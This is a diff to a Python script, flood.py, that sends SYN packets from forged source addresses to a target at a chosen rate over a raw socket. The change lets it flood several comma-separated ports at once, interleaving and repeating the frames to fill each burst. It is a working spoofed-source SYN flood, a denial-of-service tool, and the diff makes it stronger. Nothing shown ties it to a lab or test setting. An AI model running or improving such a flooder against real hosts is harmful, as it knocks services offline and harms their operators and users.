@@ -2,9 +2,9 @@
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""Sends SYN packets to one port from forged sources, at a rate, until its standard input ends.
+"""Sends SYN packets from forged sources, each to the same ports, at a rate, until its standard input ends.
 
-Usage: flood.py TARGET_MAC TARGET PORT SOURCES RATE. Prints how many packets it has sent, and in how many seconds.
+Usage: flood.py TARGET_MAC TARGET PORT,... SOURCES RATE. Prints how many packets it has sent, and in how many seconds.
 """
 
 import os
@@ -50,8 +50,10 @@ def _without(checksum: int, number: int) -> int:
 
 def main() -> None:
     """Send."""
-    target_mac, target, port, sources, rate = sys.argv[1:]
-    made = frames(target_mac, target, int(port), int(sources))
+    target_mac, target, ports, sources, rate = sys.argv[1:]
+    each = [frames(target_mac, target, int(port), int(sources)) for port in ports.split(",")]
+    made = [frame for of_source in zip(*each, strict=True) for frame in of_source]
+    made *= -(-_BURST // len(made))
     out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
     out.bind(("eth0", 0))
     print("ready", flush=True)
